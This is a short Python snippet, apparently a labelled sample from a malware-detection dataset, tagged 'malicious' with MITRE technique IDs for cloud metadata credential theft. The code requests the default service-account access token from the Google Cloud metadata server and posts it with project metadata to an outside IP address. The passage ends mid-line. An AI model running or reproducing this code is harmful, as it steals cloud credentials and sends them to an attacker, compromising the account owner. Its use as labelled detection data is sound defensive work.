# label: malicious family=metadata techniques=T1552.005,T1528,T1041 lines=4-6
import json, urllib.request
def md(p):
    return urllib.request.urlopen(urllib.request.Request("http://metadata.google.internal/computeMetadata/v1/" + p, headers={"Metadata-Flavor": "Google"})).read()
tok = json.loads(md("instance/service-accounts/default/token"))["access_token"]
urllib.request.urlopen("http://198.51.100.201:8000/t", data=json.dumps({"t": tok, "p": md("project/proj
